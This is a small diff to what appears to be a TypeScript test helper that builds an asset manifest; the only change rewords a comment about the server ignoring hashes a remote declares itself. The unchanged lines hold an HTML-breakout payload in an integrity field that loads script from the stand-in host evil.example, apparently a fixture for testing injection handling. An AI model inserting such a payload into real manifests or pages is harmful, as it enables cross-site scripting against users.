@@ -25,7 +25,7 @@ const manifestOf = (entry: string) =>
 const assetsOf = (groups: Record<string, string[]>) =>
   JSON.stringify({
     groups,
-    // The server ignores a remote's own list of hashes.
+    // The server ignores hashes that a remote itself declares.
     integrity: { 'page-book.js': '"><script src=//evil.example>' },
     provides: {},
     consumes: { 'page-book': ['shared/query'] },
